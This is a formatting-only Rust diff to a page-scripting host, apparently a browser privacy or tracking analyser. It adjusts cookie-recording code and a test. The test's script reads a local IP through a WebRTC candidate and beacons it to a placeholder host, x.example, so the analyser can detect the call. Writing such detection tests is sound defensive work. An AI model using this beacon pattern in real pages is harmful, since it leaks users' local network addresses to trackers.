@@ -101,8 +101,7 @@ impl HostApi for PageHost<'_, '_> {
                     cookie,
                     via: SetVia::Script,
                     accepted,
-                    secure_channel: self.page_url.scheme()
-                        == redlight_net::http::Scheme::Https,
+                    secure_channel: self.page_url.scheme() == redlight_net::http::Scheme::Https,
                 });
                 Value::Null
             }
@@ -295,11 +294,9 @@ mod tests {
 
     #[test]
     fn webrtc_candidate_exposes_local_ip() {
-        let (visit, _) = run_script("let ip = webrtc.candidate(); http.beacon('https://x.example/l?' + ip);");
-        assert!(visit
-            .js_calls
-            .iter()
-            .any(|c| c.api == "webrtc.candidate"));
+        let (visit, _) =
+            run_script("let ip = webrtc.candidate(); http.beacon('https://x.example/l?' + ip);");
+        assert!(visit.js_calls.iter().any(|c| c.api == "webrtc.candidate"));
     }
 
     #[test]
